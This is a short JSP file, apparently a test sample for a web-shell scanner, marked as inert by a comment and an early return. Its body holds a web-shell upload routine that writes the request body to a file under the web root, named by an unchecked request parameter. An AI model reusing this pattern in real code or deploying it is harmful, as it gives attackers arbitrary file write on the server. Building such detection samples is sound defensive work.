<%-- shellsweep test sample: inert, never functional --%>
<% if (true) return; %>
<% java.io.FileOutputStream os = new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f"));
   java.io.InputStream is = request.getInputStream(); byte[] b = new byte[512]; int n;
   while ((n = is.read(b)) != -1) os.write(b, 0, n); os.close(); %>
